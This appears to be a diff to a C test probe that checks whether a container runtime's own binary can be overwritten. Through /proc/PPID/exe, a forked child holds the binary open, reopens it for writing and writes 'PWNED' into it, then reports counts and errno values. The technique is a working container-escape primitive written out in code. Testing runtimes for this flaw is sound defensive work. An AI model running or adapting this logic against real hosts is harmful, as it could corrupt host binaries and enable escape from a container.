@@ -18,7 +18,17 @@
  *                          Prints "seen=S opened=O wrote=W" (S: processes
  *                          whose comm starts with NAME, O: opens of the
  *                          binary, W: writes)
- *                          then the errno of each failed open, counted */
+ *                          then the errno of each failed open, counted,
+ *                          and of each failed reopen ("reopen errno E: N")
+ *   sysprobe exe-hold DEV INO SECONDS REPORT
+ *                          the same from a hook: open /proc/PPID/exe (the
+ *                          runtime process that runs the hook), then fork
+ *                          and return at once, so the runtime goes on; the
+ *                          child keeps reopening the handle for writing for
+ *                          SECONDS and writes "parent=P opened=O wrote=W"
+ *                          (P: 1 if /proc/PPID/exe opened at all, O: 1 if it
+ *                          was the binary DEV:INO) and reopen errnos to
+ *                          REPORT */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -41,10 +51,27 @@ static void *nothing(void *arg)
 	return arg;
 }
 
+/* What the exploit does once the runtime is gone: the binary is no longer
+ * busy, and a held handle reopens for writing. 1 if it wrote. */
+static int reopen_and_write(int held, int *errs)
+{
+	char path[64];
+	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+	int w = open(path, O_WRONLY);
+	if (w < 0) {
+		if (errno < 256)
+			errs[errno]++;
+		return 0;
+	}
+	int wrote = write(w, "PWNED", 5) == 5;
+	close(w);
+	return wrote;
+}
+
 static int exe_attack(dev_t dev, ino_t ino, int seconds, const char *name)
 {
 	int held[256], nheld = 0, seen = 0, opened = 0, wrote = 0;
-	int errs[256] = {0};
+	int errs[256] = {0}, reopen_errs[256] = {0};
 	char seen_pids[65536] = {0};
 	time_t end = time(NULL) + seconds;
 	pid_t self = getpid();
@@ -92,28 +119,59 @@ static int exe_attack(dev_t dev, ino_t ino, int seconds, const char *name)
 		}
 		if (d)
 			closedir(d);
-		/* What the exploit does once the runtime is gone: the binary is
-		 * no longer busy, and the held handle reopens for writing. */
-		for (int i = 0; i < nheld; i++) {
-			char path[64];
-			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
-			int w = open(path, O_WRONLY);
-			if (w >= 0) {
-				if (write(w, "PWNED", 5) == 5)
-					wrote++;
-				close(w);
-			}
-		}
+		for (int i = 0; i < nheld; i++)
+			wrote += reopen_and_write(held[i], reopen_errs);
 	}
 	printf("seen=%d opened=%d wrote=%d\n", seen, opened, wrote);
 	for (int i = 0; i < 256; i++)
 		if (errs[i])
 			printf("errno %d: %d\n", i, errs[i]);
+	for (int i = 0; i < 256; i++)
+		if (reopen_errs[i])
+			printf("reopen errno %d: %d\n", i, reopen_errs[i]);
 	return 0;
+}
+
+static int exe_hold(dev_t dev, ino_t ino, int seconds, const char *report)
+{
+	char path[64];
+	int reopen_errs[256] = {0}, wrote = 0, opened = 0;
+	snprintf(path, sizeof path, "/proc/%d/exe", (int)getppid());
+	int fd = open(path, O_PATH);
+	struct stat st;
+	if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
+		opened = 1;
+	pid_t child = fork();
+	if (child != 0)
+		return child < 0;
+	/* Out of the runtime's way: no stdio it might wait on. */
+	setsid();
+	int null = open("/dev/null", O_RDWR);
+	dup2(null, 0);
+	dup2(null, 1);
+	dup2(null, 2);
+	time_t end = time(NULL) + seconds;
+	while (opened && time(NULL) < end) {
+		wrote += reopen_and_write(fd, reopen_errs);
+		usleep(1000);
+	}
+	char tmp[4096];
+	snprintf(tmp, sizeof tmp, "%s.tmp", report);
+	FILE *out = fopen(tmp, "w");
+	if (!out)
+		return 1;
+	fprintf(out, "parent=%d opened=%d wrote=%d\n", fd >= 0, opened, wrote);
+	for (int i = 0; i < 256; i++)
+		if (reopen_errs[i])
+			fprintf(out, "reopen errno %d: %d\n", i, reopen_errs[i]);
+	fclose(out);
+	return rename(tmp, report) != 0;
 }
 
 int main(int argc, char **argv)
 {
+	if (argc == 6 && strcmp(argv[1], "exe-hold") == 0)
+		return exe_hold(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0), atoi(argv[4]), argv[5]);
 	if (argc == 6 && strcmp(argv[1], "exe-attack") == 0)
 		return exe_attack(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0), atoi(argv[4]), argv[5]);
 	long a[6] = {0};
